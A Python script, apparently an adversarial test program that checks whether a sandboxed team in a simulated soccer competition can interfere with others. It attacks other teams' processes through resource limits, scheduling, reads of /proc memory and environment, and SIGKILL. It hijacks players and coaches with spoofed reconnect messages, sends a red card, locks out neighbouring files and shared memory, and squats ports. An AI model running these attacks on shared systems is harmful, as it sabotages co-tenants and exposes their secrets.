"""A program of a sandboxed team that reaches for all that is not its own, until it is ended: other
processes by limits, priorities, cores and signals; players and coaches by reconnects and by their
names; the referee as a monitor; ports; in namespaces also files by their permissions, and shared
memory. It prints what it was given.

    thief.py PLAYER_PORT COACH_PORT TEAM...
"""
import glob
import os
import pathlib
import resource
import select
import signal
import socket
import sys
import time

# Landlock keeps signals to others from this version of Linux on.
SIGNALS_STAY = tuple(int(part) for part in os.uname().release.split(".")[:2]) >= (6, 12)


# The first process is then the keeper of this program.
IN_NAMESPACES = pathlib.Path("/proc/1/comm").read_text(encoding="ascii").startswith("of ")


def taken(what):
    print("TAKEN: " + what, flush=True)


def parent(pid):
    text = pathlib.Path(f"/proc/{pid}/stat").read_text(encoding="ascii", errors="replace")
    return int(text.rpartition(")")[2].split()[1])


def ancestors():
    found, pid = {os.getpid()}, os.getppid()
    while pid > 1:
        found.add(pid)
        pid = parent(pid)
    return found


def other_programs():
    """Processes of cls and of its sides that do not belong to this team."""
    team = os.getpgrp()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        pid = int(entry)
        try:
            command = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if os.path.basename(command[0]) == b"cls" and os.getpgid(pid) != team:
                yield pid
        except OSError:
            pass


def set_scheduler(pid):
    """An error if it had no effect, which no error tells."""
    os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    if os.sched_getscheduler(pid) != os.SCHED_IDLE:
        raise PermissionError


def attack_process(pid):
    attempts = [
        ("a limit", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))),
        ("a priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)),
        ("cores", lambda: os.sched_setaffinity(pid, {0})),
        ("a scheduler", lambda: set_scheduler(pid)),
        ("memory", lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))),
        ("variables", lambda: pathlib.Path(f"/proc/{pid}/environ").read_bytes()),
    ]
    if SIGNALS_STAY:
        attempts.append(("life", lambda: os.kill(pid, signal.SIGKILL)))
    for what, attempt in attempts:
        try:
            attempt()
        except OSError:
            continue
        taken(f"{what} of process {pid}")


def messages(teams, ports):
    """What a stranger must not be granted, and the beginning of the reply that grants it."""
    for port in ports:
        yield port, b"(dispinit version 4)", b"(server_param"
    yield ports[0] + 1, b"(init (version 18))", b"(init"  # a trainer
    # A server in namespaces is that of this side alone: whoever joins there takes its own places.
    for team in [] if IN_NAMESPACES else teams:
        name = team.encode()
        for number in range(1, 12):
            yield ports[0], b"(reconnect " + name + b" %d)" % number, b"(reconnect"
        yield ports[0], b"(init " + name + b" (version 18))", b"(init"
        yield ports[1], b"(init " + name + b" (version 18))", b"(init"


def attack_server(teams, ports):
    for port, message, granted in messages(teams, ports):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
            peer.sendto(message + b"\0", ("127.0.0.1", port))
            if not select.select([peer], [], [], 0.05)[0]:
                continue
            reply = peer.recv(8192)
            if reply.startswith(granted):
                taken(f"{message.decode()} at port {port}: {reply[:60]!r}")
                peer.sendto(b"(dispcard 1 2 red)\0", ("127.0.0.1", port))
                peer.sendto(b"(bye)\0", ("127.0.0.1", port))


def attack_files():
    """What lies beside this team, and all shared memory."""
    here = os.getcwd()
    temporary = os.path.dirname(os.environ["TMPDIR"])
    for path in [*glob.glob(here + "/../*"), *glob.glob(temporary + "/*"), *glob.glob("/dev/shm/*")]:
        own = (here, os.path.realpath(os.environ["TMPDIR"]))
        if any(f"{folder}/".startswith(os.path.realpath(path) + "/") for folder in own):
            continue
        try:
            os.chmod(path, 0)
        except OSError:
            continue
        taken("permissions of " + path)


def squat():
    """Holds some of the ports that others may want next."""
    held = []
    for port in [*range(6000, 6010), *range(20000 + os.getpid() % 1000, 32000, 1500)]:
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            peer = socket.socket(socket.AF_INET, kind)
            try:
                peer.bind(("127.0.0.1", port))
                held.append(peer)
            except OSError:
                peer.close()
    return held


def main():
    ports = [int(sys.argv[1]), int(sys.argv[2])]
    held = squat()
    while held is not None:
        for pid in other_programs():
            if pid not in ancestors():
                attack_process(pid)
        attack_server(sys.argv[3:], ports)
        if IN_NAMESPACES:
            attack_files()
        time.sleep(0.1)


if __name__ == "__main__":
    main()
